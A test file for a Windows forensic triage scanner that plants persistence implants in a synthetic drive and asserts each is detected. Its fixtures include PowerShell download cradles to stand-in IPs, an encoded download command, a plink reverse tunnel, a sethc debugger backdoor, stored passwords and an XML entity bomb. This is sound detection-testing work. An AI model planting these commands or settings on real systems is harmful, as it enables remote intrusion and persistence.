"""Windows triage collections: registry, tasks, start-up folders and answer files of a copy of C:\\.

The trees are built from real hives (regipy's test data) changed with hivex; see
``windows_helpers``. Expected findings are the implants planted here, one by one.
"""

from __future__ import annotations

import base64
import sys
import zipfile
from pathlib import Path

import pytest

from cranewatch.forensics.api import endpoint_policy, scan_image
from cranewatch.forensics.windows.commands import (
    cradle_in,
    decoded_powershell,
    place_of,
    program_of,
)
from cranewatch.forensics.windows.safe_xml import UnsafeXml, parse_xml
from cranewatch.model import Finding, Severity
from prefetch_build import PfSpec, build, mam
from windows_helpers import (
    PF_C,
    REG_BINARY,
    REG_DWORD,
    REG_EXPAND_SZ,
    REG_SZ,
    bam_value,
    set_values,
    shimcache_with,
    stock_tree,
    task_xml,
    unpack_hive,
    write,
)

# The collections are STS-07's CMS: its zones (no crane is built into the library).
STS07, _ = endpoint_policy(profile=Path(__file__).parents[1] / "src/cranewatch/data/profiles/sts-07.toml")

CMS_SVC = "C:\\ProgramData\\CraneSync\\cranesync.exe"
CRADLE = "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/a.ps1')\""
ENCODED_SCRIPT = "iwr http://203.0.113.51/u.ps1 -OutFile $env:TEMP\\u.ps1"
ENCODED = "powershell.exe -NoProfile -EncodedCommand " + base64.b64encode(ENCODED_SCRIPT.encode("utf-16-le")).decode()

UNATTEND = """<?xml version="1.0" encoding="utf-8"?>
<unattend xmlns="urn:schemas-microsoft-com:unattend">
  <settings pass="oobeSystem">
    <component name="Microsoft-Windows-Shell-Setup" processorArchitecture="amd64">
      <UserAccounts>
        <AdministratorPassword><Value>Q3JhbmUyMDIwIUFkbWluaXN0cmF0b3JQYXNzd29yZA==</Value><PlainText>false</PlainText></AdministratorPassword>
      </UserAccounts>
      <AutoLogon><Username>cmsadmin</Username><Password><Value>Crane2020!</Value><PlainText>true</PlainText></Password><Enabled>true</Enabled></AutoLogon>
    </component>
  </settings>
</unattend>
"""
WWAN_PROFILE = (
    '<?xml version="1.0"?>\r\n<MBNProfile xmlns="http://www.microsoft.com/networking/WWAN/profile/v1">'
    "<Name>vendor-lte</Name><IsDefault>true</IsDefault><SubscriberID>262011234567890</SubscriberID>"
    "<Context><AccessString>m2m.vendor-iot.net</AccessString></Context></MBNProfile>"
)

# (rule, a word of the title, lowest severity expected) for every implant planted below.
IMPLANTS = (
    ("windows.service-path", "CraneSync", Severity.HIGH),
    ("windows.run-key", "CraneUpdate", Severity.CRITICAL),
    ("windows.run-key", "Updater", Severity.CRITICAL),
    ("windows.ifeo-debugger", "sethc.exe", Severity.CRITICAL),
    ("windows.winlogon", "Userinit", Severity.HIGH),
    ("windows.rdp-no-nla", "Network Level Authentication", Severity.HIGH),
    ("windows.rdp-port", "13389", Severity.HIGH),
    ("windows.portproxy", "10.20.7.10/502", Severity.CRITICAL),
    ("windows.remote-tool", "TeamViewer", Severity.HIGH),
    ("windows.remote-tool", "AnyDesk", Severity.HIGH),
    ("windows.autologon", "cmsadmin", Severity.HIGH),
    ("windows.scheduled-task", "CraneHealth", Severity.HIGH),
    ("windows.startup-folder", "cms-tunnel.bat", Severity.CRITICAL),
    ("windows.unattend-password", "AdministratorPassword", Severity.HIGH),
    ("windows.unattend-password", "AutoLogon/Password", Severity.HIGH),
    ("windows.hosts-redirect", "wdcp.microsoft.com", Severity.HIGH),
    ("windows.wwan-profile", "m2m.vendor-iot.net", Severity.HIGH),
    ("windows.appinit-dlls", "cmshook.dll", Severity.HIGH),
    ("windows.firewall-inbound", "Crane VNC", Severity.HIGH),
    ("windows.firewall-off", "public profile", Severity.HIGH),
    ("windows.local-account", "Guest (RID 501) needs no password", Severity.HIGH),
    ("windows.active-setup", "firstlogon.exe", Severity.HIGH),
    ("windows.remote-tool-password", "SecurityPasswordAES", Severity.HIGH),
    ("windows.amcache-tool", "ngrok.exe", Severity.HIGH),
    ("windows.proxy", "198.51.100.40", Severity.HIGH),
    ("windows.powershell-profile", "profile.ps1", Severity.CRITICAL),
    ("windows.vpn-outside", "vpn.cranevendor-service.com", Severity.HIGH),
    ("windows.local-account", "Administrator (RID 500) is the built-in Administrator", Severity.MEDIUM),
    ("windows.shimcache-attack-tool", "Mimikatz", Severity.HIGH),
    ("windows.bam-attack-tool", "chisel", Severity.HIGH),
    ("windows.prefetch-tool", "PuTTY plink", Severity.HIGH),
    ("windows.wmi-subscription", "CraneWatchdog", Severity.HIGH),
)


def _with_flags(hive: Path, key: str, flags: int) -> str:
    """The account's F value (read with regipy) with new account-control flags, as hex."""
    from regipy.registry import RegistryHive

    f = RegistryHive(str(hive)).get_key("\\" + key).get_value("F")
    return (f[:0x38] + flags.to_bytes(2, "little") + f[0x3A:]).hex()


FIREWALL = "ControlSet001\\Services\\SharedAccess\\Parameters\\FirewallPolicy"


def implant_tree(shared: Path, root: Path) -> Path:
    """The stock tree plus thirty-two implants of a CMS PC a vendor set up for remote service."""
    stock_tree(shared, root)
    config = root / "Windows/System32/config"
    cs = "ControlSet001"  # Select\Current of this hive is 1
    set_values(config / "SYSTEM", [
        (f"{cs}\\Services\\CraneSync", "ImagePath", REG_EXPAND_SZ, CMS_SVC),
        (f"{cs}\\Services\\CraneSync", "Start", REG_DWORD, 2),
        (f"{cs}\\Services\\CraneSync", "Type", REG_DWORD, 16),
        (f"{cs}\\Services\\TeamViewer", "ImagePath", REG_EXPAND_SZ,
         '"C:\\Program Files (x86)\\TeamViewer\\TeamViewer_Service.exe"'),
        (f"{cs}\\Services\\TeamViewer", "Start", REG_DWORD, 2),
        (f"{cs}\\Control\\Terminal Server", "fDenyTSConnections", REG_DWORD, 0),
        (f"{cs}\\Control\\Terminal Server\\WinStations\\RDP-Tcp", "UserAuthentication", REG_DWORD, 0),
        (f"{cs}\\Control\\Terminal Server\\WinStations\\RDP-Tcp", "PortNumber", REG_DWORD, 13389),
        (f"{cs}\\Services\\PortProxy\\v4tov4\\tcp", "0.0.0.0/5020", REG_SZ, "10.20.7.10/502"),
        (f"{FIREWALL}\\FirewallRules", "CraneVNC", REG_SZ,
         "v2.30|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=5900|App=C:\\ProgramData\\CraneSync\\winvnc.exe|Name=Crane VNC|"),
        (f"{FIREWALL}\\PublicProfile", "EnableFirewall", REG_DWORD, 0),
    ])
    set_values(config / "SOFTWARE", [
        ("Microsoft\\Windows\\CurrentVersion\\Run", "CraneUpdate", REG_SZ, CRADLE),
        ("Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "Userinit", REG_SZ,
         "C:\\Windows\\system32\\userinit.exe,C:\\ProgramData\\CraneSync\\logon.exe"),
        ("Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "AutoAdminLogon", REG_SZ, "1"),
        ("Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "DefaultUserName", REG_SZ, "cmsadmin"),
        ("Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "DefaultPassword", REG_SZ, "Crane2020!"),
        ("Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe", "Debugger", REG_SZ,
         "C:\\Windows\\System32\\cmd.exe"),
        ("Microsoft\\Windows NT\\CurrentVersion\\Windows", "AppInit_DLLs", REG_SZ, "C:\\ProgramData\\CraneSync\\cmshook.dll"),
        ("Microsoft\\Windows NT\\CurrentVersion\\Windows", "LoadAppInit_DLLs", REG_DWORD, 1),
        ("Microsoft\\Windows\\CurrentVersion\\Uninstall\\AnyDesk", "DisplayName", REG_SZ, "AnyDesk"),
        ("Wow6432Node\\TeamViewer", "SecurityPasswordAES", REG_BINARY, "8f3a1c9e0b7d2f4a6c5e1b3d9a7f0e2c"),
        ("Microsoft\\Active Setup\\Installed Components\\{8C1D3A2E-7B4F-4E1A-9D55-CRANE0000001}", "StubPath", REG_SZ,
         "C:\\ProgramData\\CraneSync\\firstlogon.exe /q"),
        ("Microsoft\\Windows\\CurrentVersion\\Uninstall\\AnyDesk", "InstallLocation", REG_SZ,
         "C:\\Program Files (x86)\\AnyDesk"),
    ])
    set_values(root / "Users/cms/NTUSER.DAT", [
        ("Software\\Microsoft\\Windows\\CurrentVersion\\Run", "Updater", REG_SZ, ENCODED),
        ("Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings", "ProxyEnable", REG_DWORD, 1),
        ("Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings", "ProxyServer", REG_SZ,
         "http=198.51.100.40:3128;https=198.51.100.40:3128"),
    ])
    set_values(root / "Windows/AppCompat/Programs/Amcache.hve", [
        ("Root\\InventoryApplicationFile\\ngrok.exe|5b2c1e7a9f0d3c41", "LowerCaseLongPath", REG_SZ,
         "c:\\users\\cms\\downloads\\ngrok.exe"),
        ("Root\\InventoryApplicationFile\\ngrok.exe|5b2c1e7a9f0d3c41", "FileId", REG_SZ,
         "0000" + "3f" * 20),
    ])
    # Guest enabled and needing no password, Administrator enabled (account-control flags at F+0x38)
    users = "SAM\\Domains\\Account\\Users"
    set_values(config / "SAM", [
        (f"{users}\\000001F5", "F", REG_BINARY, _with_flags(config / "SAM", f"{users}\\000001F5", 0x0214)),
        (f"{users}\\000001F4", "F", REG_BINARY, _with_flags(config / "SAM", f"{users}\\000001F4", 0x0210)),
    ])
    # what ran: a credential thief from a USB stick (ShimCache), a tunnel (BAM), the start-up plink (Prefetch)
    ran = (1_793_672_047 + 11_644_473_600) * 10_000_000  # 2026-11-03 02:14:07 UTC as a FILETIME
    shimcache_with(config / "SYSTEM", cs, [("E:\\service\\mimikatz.exe", ran)])
    set_values(config / "SYSTEM", [(f"{cs}\\Services\\bam\\State\\UserSettings\\S-1-5-21-1-2-3-1001",
                                    "\\Device\\HarddiskVolume2\\Users\\cms\\AppData\\Local\\Temp\\chisel.exe",
                                    REG_BINARY, bam_value(ran))])
    write(root, "Windows/Prefetch/PLINK.EXE-5C1E2A3B.pf", mam(root.parent, build(PfSpec(
        30, "PLINK.EXE", 14, [ran], [f"{PF_C}\\WINDOWS\\SYSTEM32\\NTDLL.DLL", f"{PF_C}\\PROGRAMDATA\\CRANESYNC\\PLINK.EXE"]))))
    mz = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode."
    write(root, "ProgramData/CraneSync/cranesync.exe", mz)
    write(root, "Program Files (x86)/TeamViewer/TeamViewer.exe", mz)
    write(root, "Windows/System32/Tasks/CraneHealth", task_xml(
        "powershell.exe", "-ExecutionPolicy Bypass -File C:\\Users\\Public\\health.ps1", author="CMS"))
    write(root, "ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/cms-tunnel.bat",
          "@echo off\r\nstart /min \"\" \"C:\\ProgramData\\CraneSync\\plink.exe\" -ssh -N -R 4000:127.0.0.1:3389 "
          "support@203.0.113.60 -pw vendor\r\n")
    write(root, "Windows/Panther/unattend.xml", UNATTEND)
    write(root, "Windows/System32/drivers/etc/hosts", STOCK_HOSTS_PLUS)
    write(root, "Windows/System32/WindowsPowerShell/v1.0/profile.ps1",
          "Set-StrictMode -Off\r\nIEX (New-Object Net.WebClient).DownloadString('https://203.0.113.52/p.ps1')\r\n")
    write(root, "ProgramData/Microsoft/Network/Connections/Pbk/rasphone.pbk",
          "[Vendor Service VPN]\r\nEncoding=1\r\nType=2\r\nPhoneNumber=vpn.cranevendor-service.com\r\n"
          "VpnStrategy=7\r\n")
    write(root, "ProgramData/Microsoft/WwanSvc/Profiles/{6C1E2A1B-0F3D-4C55-9E21-3B5A7D0C9F10}.xml", WWAN_PROFILE)
    write(root, "Windows/System32/wbem/AutoRecover/9C2D41A7B0E35F18.mof", WMI_MOF)
    return root


# A WMI event subscription as mofcomp -autorecover leaves it: recompiled whenever the repository is rebuilt.
WMI_MOF = (
    '#pragma namespace("\\\\\\\\.\\\\root\\\\subscription")\n'
    'instance of __EventFilter as $F { Name = "CraneBoot"; QueryLanguage = "WQL";\n'
    '  Query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA \'Win32_LocalTime\'"; };\n'
    'instance of CommandLineEventConsumer as $C { Name = "CraneWatchdog";\n'
    '  CommandLineTemplate = "C:\\\\ProgramData\\\\CraneSync\\\\cranesync.exe --watch"; };\n'
    "instance of __FilterToConsumerBinding { Filter = $F; Consumer = $C; };\n"
)


STOCK_HOSTS_PLUS = "127.0.0.1 wdcp.microsoft.com wdcpalt.microsoft.com\r\n"


def _matching(findings: tuple[Finding, ...], rule: str, word: str) -> list[Finding]:
    return [f for f in findings if f.rule == rule and word in f.title + " ".join(str(e.excerpt) for e in f.evidence)]


@pytest.fixture(scope="module")
def implanted(shared_data: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return implant_tree(shared_data, tmp_path_factory.mktemp("win10") / "C")


def test_every_implant_of_a_windows_10_collection_is_found(implanted: Path) -> None:
    result = scan_image(implanted, workers=1, policy=STS07)
    missing = []
    for rule, word, lowest in IMPLANTS:
        hits = _matching(result.findings, rule, word)
        if not hits or max(f.severity for f in hits) < lowest:
            missing.append((rule, word, [(f.title, str(f.severity)) for f in hits]))
    assert missing == [], missing
    assert result.warnings == ()


def test_registry_findings_name_the_hive_key_and_value(implanted: Path) -> None:
    findings = scan_image(implanted, workers=1, policy=STS07).findings
    (sethc,) = _matching(findings, "windows.ifeo-debugger", "sethc.exe")
    evidence = sethc.evidence[0]
    assert evidence.path == "Windows/System32/config/SOFTWARE"
    assert evidence.values["key"] == "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe"
    assert evidence.values["value"] == "Debugger"
    assert evidence.values["data"] == "C:\\Windows\\System32\\cmd.exe"
    assert sethc.category == "backdoor"
    (encoded,) = _matching(findings, "windows.run-key", "Updater")
    assert encoded.evidence[0].values["key"] == "HKU\\cms\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
    assert encoded.evidence[0].values["decoded"] == ENCODED_SCRIPT
    (proxy,) = _matching(findings, "windows.portproxy", "10.20.7.10")
    assert proxy.evidence[0].values["key"] == "HKLM\\SYSTEM\\ControlSet001\\Services\\PortProxy\\v4tov4\\tcp"
    assert proxy.evidence[0].values["value"] == "0.0.0.0/5020"
    (autologon,) = _matching(findings, "windows.autologon", "cmsadmin")
    assert "Crane2020!" not in repr(autologon)  # the password is never copied into the report
    (stored,) = _matching(findings, "windows.remote-tool-password", "SecurityPasswordAES")
    assert "8f3a1c9e" not in repr(stored) and "\\x8f" not in repr(stored)
    assert stored.evidence[0].values["key"] == "HKLM\\SOFTWARE\\Wow6432Node\\TeamViewer"
    (teamviewer,) = _matching(findings, "windows.remote-tool", "TeamViewer")
    assert {e.path for e in teamviewer.evidence} == {
        "Windows/System32/config/SYSTEM", "Program Files (x86)/TeamViewer/TeamViewer.exe"}


def test_stock_windows_gives_nothing_high(shared_data: Path, tmp_path: Path) -> None:
    tree = stock_tree(shared_data, tmp_path / "C")
    result = scan_image(tree, workers=1, policy=STS07)
    high = [(f.rule, f.title) for f in result.findings if f.severity >= Severity.HIGH]
    assert high == []
    assert result.warnings == ()
    # Defender's engine lives under ProgramData in the real hive: a stock service, no finding.
    assert not [f for f in result.findings if "MsMpEng" in f.title or "Defender" in f.title]


def test_the_same_tree_as_a_zip_gives_the_same_findings(implanted: Path, tmp_path: Path) -> None:
    archive = tmp_path / "collection.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        for path in sorted(implanted.rglob("*")):
            if path.is_file():
                zf.write(path, path.relative_to(implanted).as_posix())
    as_dir = scan_image(implanted, workers=1, policy=STS07).findings
    as_zip = scan_image(archive, workers=1, policy=STS07).findings
    assert [(f.id, f.rule, f.severity, f.title) for f in as_zip] == [(f.id, f.rule, f.severity, f.title) for f in as_dir]


def test_paths_are_found_whatever_their_case(shared_data: Path, tmp_path: Path) -> None:
    root = tmp_path / "c"
    unpack_hive(shared_data, "SYSTEM_WIN_10_1709", root / "WINDOWS/system32/CONFIG/system")
    set_values(root / "WINDOWS/system32/CONFIG/system", [
        ("ControlSet001\\Services\\PortProxy\\v4tov4\\tcp", "0.0.0.0/102", REG_SZ, "10.20.7.11/102"),
    ])
    found = scan_image(root, workers=1, policy=STS07).findings
    # (the stock hive's own medium findings, e.g. its OpenSSH firewall rule, are not the point here)
    assert [f.rule for f in found if f.rule.startswith("windows.") and f.severity >= Severity.HIGH] == ["windows.portproxy"]


def test_the_current_control_set_is_followed(shared_data: Path, tmp_path: Path) -> None:
    """RDP opened in ControlSet002 counts only when Select\\Current names set 2."""
    root = tmp_path / "C"
    system = unpack_hive(shared_data, "SYSTEM_WIN_10_1709", root / "Windows/System32/config/SYSTEM")
    set_values(system, [
        ("ControlSet002\\Control\\Terminal Server", "fDenyTSConnections", REG_DWORD, 0),
        ("ControlSet002\\Control\\Terminal Server\\WinStations\\RDP-Tcp", "UserAuthentication", REG_DWORD, 0),
    ])
    assert [f for f in scan_image(root, workers=1, policy=STS07).findings if f.rule.startswith("windows.rdp")] == []
    set_values(system, [("Select", "Current", REG_DWORD, 2)])
    (nla,) = [f for f in scan_image(root, workers=1, policy=STS07).findings if f.rule.startswith("windows.rdp")]
    assert nla.rule == "windows.rdp-no-nla"
    assert nla.evidence[0].values["key"] == "HKLM\\SYSTEM\\ControlSet002\\Control\\Terminal Server\\WinStations\\RDP-Tcp"


def test_a_corrupted_hive_is_a_located_problem_and_the_rest_is_found(shared_data: Path, tmp_path: Path) -> None:
    root = tmp_path / "C"
    unpack_hive(shared_data, "corrupted_system_hive", root / "Windows/System32/config/SYSTEM")
    write(root, "Windows/Panther/unattend.xml", UNATTEND)
    write(root, "Windows/System32/Tasks/CraneHealth", task_xml("C:\\Users\\Public\\health.exe"))
    result = scan_image(root, workers=1, policy=STS07)
    rules = {f.rule for f in result.findings}
    assert {"windows.unattend-password", "windows.scheduled-task"} <= rules
    assert result.warnings, "the corrupted hive must be reported"
    assert all("Windows/System32/config/SYSTEM" in w for w in result.warnings), result.warnings
    # located (key and offset), printable and bounded: not one line per broken cell
    assert any("HKLM\\SYSTEM\\ControlSet001\\Services\\" in w and " at " in w for w in result.warnings)
    assert len(result.warnings) <= 10
    assert all(w.isprintable() and len(w) < 400 for w in result.warnings)


def test_a_hive_that_is_not_a_hive_is_a_located_problem(tmp_path: Path) -> None:
    root = tmp_path / "C"
    write(root, "Windows/System32/config/SOFTWARE", b"regf" + b"\xff" * 100)
    write(root, "Windows/System32/Tasks/CraneHealth", task_xml("C:\\Users\\Public\\health.exe"))
    result = scan_image(root, workers=1, policy=STS07)
    assert [f.rule for f in result.findings if f.rule.startswith("windows.")] == ["windows.scheduled-task"]
    assert any("registry hive not readable, its checks skipped" in w and "config/SOFTWARE" in w for w in result.warnings)


def test_task_xml_with_a_dtd_is_refused(tmp_path: Path) -> None:
    bomb = ('<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
            "<Task><Actions><Exec><Command>&b;</Command></Exec></Actions></Task>")
    with pytest.raises(UnsafeXml):
        parse_xml(bomb.encode())
    root = tmp_path / "C"
    (root / "Windows/System32/config").mkdir(parents=True)
    write(root, "Windows/System32/Tasks/Bomb", bomb)
    result = scan_image(root, workers=1, policy=STS07)
    assert any("Windows/System32/Tasks/Bomb" in w and "DTD" in w for w in result.warnings)


@pytest.mark.parametrize(("command", "program", "place"), [
    ('"C:\\Program Files (x86)\\TeamViewer\\TeamViewer_Service.exe"', "c:\\program files (x86)\\teamviewer\\teamviewer_service.exe", "program-files"),
    ("%SystemRoot%\\system32\\svchost.exe -k netsvcs -p", "c:\\windows\\system32\\svchost.exe", "system"),
    ("\\SystemRoot\\System32\\drivers\\acpi.sys", "c:\\windows\\system32\\drivers\\acpi.sys", "system"),
    ("system32\\drivers\\disk.sys", "c:\\windows\\system32\\drivers\\disk.sys", "system"),
    ("\\??\\C:\\ProgramData\\x\\drv.sys", "c:\\programdata\\x\\drv.sys", "user-writable"),
    ('"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18\\MsMpEng.exe"',
     "c:\\programdata\\microsoft\\windows defender\\platform\\4.18\\msmpeng.exe", "system"),
    ("C:\\Users\\cms\\AppData\\Roaming\\upd.exe /q", "c:\\users\\cms\\appdata\\roaming\\upd.exe", "user-writable"),
    ("D:\\CMS\\bin\\cms.exe", "d:\\cms\\bin\\cms.exe", "other"),
])
def test_program_and_place_of_a_command(command: str, program: str, place: str) -> None:
    assert program_of(command) == program
    assert place_of(program) == place


def test_cradles_are_named_and_encoded_commands_decoded() -> None:
    assert cradle_in(CRADLE) == "PowerShell download cradle"
    assert cradle_in(ENCODED) == "encoded PowerShell command"
    assert decoded_powershell(ENCODED) == ENCODED_SCRIPT
    assert cradle_in("plink.exe -ssh -N -R 4000:127.0.0.1:3389 support@203.0.113.60") == "reverse tunnel"
    assert cradle_in("%windir%\\system32\\SecurityHealthSystray.exe") is None
    assert cradle_in('"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background') is None


def test_without_the_registry_reader_a_windows_tree_gets_a_warning(
    implanted: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "cranewatch.forensics.windows.checks", None)  # as if regipy were absent
    result = scan_image(implanted, workers=1, policy=STS07)
    assert not [f for f in result.findings if f.rule.startswith("windows.")]
    assert any("cranewatch[windows]" in w for w in result.warnings)


def test_a_dirty_hive_with_unusable_logs_is_read_as_stored_with_a_warning(shared_data: Path, tmp_path: Path) -> None:
    """SYSTEM_WIN_10_1709 is dirty (sequence numbers 4317/4316): its logs are tried, then skipped."""
    root = tmp_path / "C"
    unpack_hive(shared_data, "SYSTEM_WIN_10_1709", root / "Windows/System32/config/SYSTEM")  # left as shipped: hivex would clean it
    write(root, "Windows/System32/config/SYSTEM.LOG1", b"regf" + b"\x00" * 508 + b"JUNK" * 256)
    write(root, "Windows/System32/Tasks/CraneHealth", task_xml("C:\\Users\\Public\\health.exe"))
    result = scan_image(root, workers=1, policy=STS07)
    # the other checks still ran
    assert [f.rule for f in result.findings if f.rule.startswith("windows.") and f.severity >= Severity.HIGH] == [
        "windows.scheduled-task"]
    assert any("config/SYSTEM: transaction logs not applied" in w for w in result.warnings), result.warnings


def test_inline_registry_data_is_not_read_from_the_hive_stream() -> None:
    """regipy 6.5 read to the end of the hive for every inline DWORD (118 s for a Windows 10
    SYSTEM hive's services, 1 s now): inline data lives in the offset field, nothing is read."""
    import io
    from types import SimpleNamespace

    from regipy.registry import NKRecord

    import cranewatch.forensics.windows.tree  # noqa: F401  (installs the replacement)

    stream = io.BytesIO(b"\x00" * (1 << 20))
    inline = SimpleNamespace(data_size=0x80000004, data_offset=7, data_type="REG_DWORD")
    record = NKRecord.read_value(inline, stream)
    assert record.value == b"" and stream.tell() == 0
    stored = SimpleNamespace(data_size=6, data_offset=0, data_type="REG_SZ")
    stream = io.BytesIO(b"\x00" * 4100 + b"a\x00b\x00c\x00" + b"\x00" * 100)
    assert NKRecord.read_value(stored, stream).value == b"a\x00b\x00c\x00"


def test_a_hive_larger_than_the_cap_is_not_read(implanted: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import cranewatch.forensics.windows.tree as tree

    monkeypatch.setattr(tree, "MAX_HIVE_BYTES", 4 << 20)  # the SYSTEM hive is 15 MB, SOFTWARE 2.8 MB
    result = scan_image(implanted, workers=1, policy=STS07)
    assert any("config/SYSTEM: registry hive of" in w and "not read" in w for w in result.warnings)
    rules = {f.rule for f in result.findings}
    assert "windows.portproxy" not in rules  # in SYSTEM
    assert "windows.ifeo-debugger" in rules  # in SOFTWARE, still read


def test_git_for_windows_inside_a_windows_tree_does_not_become_its_root(shared_data: Path, tmp_path: Path) -> None:
    """Git for Windows (and Cygwin) lay out etc/ and usr/ under Program Files: still the Windows drive."""
    root = tmp_path / "C"
    unpack_hive(shared_data, "SYSTEM_WIN_10_1709", root / "Windows/System32/config/SYSTEM")
    set_values(root / "Windows/System32/config/SYSTEM", [
        ("ControlSet001\\Services\\PortProxy\\v4tov4\\tcp", "0.0.0.0/102", REG_SZ, "10.20.7.11/102"),
    ])
    write(root, "Program Files/Git/etc/bash.bashrc", "# git bash\n")
    write(root, "Program Files/Git/usr/bin/ssh.exe", b"MZ")
    result = scan_image(root, workers=1, policy=STS07)
    assert [f.rule for f in result.findings if f.rule == "windows.portproxy"] == ["windows.portproxy"]
    assert not [w for w in result.warnings if "root filesystem is the folder" in w]


@pytest.mark.parametrize("top", ["C", "uploads/auto/C%3A"])
def test_a_collection_with_the_drive_in_a_folder_is_the_windows_tree(implanted: Path, tmp_path: Path, top: str) -> None:
    """Collection tools put the drive in a folder of its own (KAPE: ``C/``; Velociraptor:
    ``uploads/auto/C%3A/``) beside their own logs: the drive is the root, its findings are the
    unwrapped tree's, and what lies beside it is named, not scanned."""
    archive = tmp_path / "kape.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        for path in sorted(implanted.rglob("*")):
            if path.is_file():
                zf.write(path, f"{top}/{path.relative_to(implanted).as_posix()}")
        zf.writestr("2026-12-07T101500_ConsoleLog.txt", "KAPE version 1.3.0.2\n")
    as_dir = scan_image(implanted, workers=1, policy=STS07)
    wrapped = scan_image(archive, workers=1, policy=STS07)
    assert [(f.id, f.rule, f.severity, f.title) for f in wrapped.findings] == \
        [(f.id, f.rule, f.severity, f.title) for f in as_dir.findings]
    (note,) = [w for w in wrapped.warnings if "root filesystem is the folder" in w]
    assert f"folder {top}/" in note and "ConsoleLog.txt" in note


def test_a_windows_backup_inside_a_wrapped_linux_root_leaves_the_linux_root(shared_data: Path, tmp_path: Path) -> None:
    """A Linux root filesystem in a folder that keeps a copy of a Windows drive under /srv: the
    root is the Linux one."""
    from cranewatch.forensics.image import open_image

    tree = tmp_path / "tree"
    unpack_hive(shared_data, "SYSTEM_WIN_10_1709", tree / "rootfs/srv/pc-backup/C/Windows/System32/config/SYSTEM")
    for name, text in (("rootfs/etc/os-release", 'ID=debian\nVERSION_ID="12"\n'), ("rootfs/etc/passwd", "root:x:0:0::/root:/bin/sh\n"),
                       ("rootfs/usr/bin/env", "#!\n"), ("rootfs/bin/sh", "#!\n"), ("rootfs/var/lib/dpkg/status", "")):
        write(tree, name, text)
    with open_image(tree) as image:
        assert "etc/os-release" in image.entries
        assert "srv/pc-backup/C/Windows/System32/config/SYSTEM" in image.entries
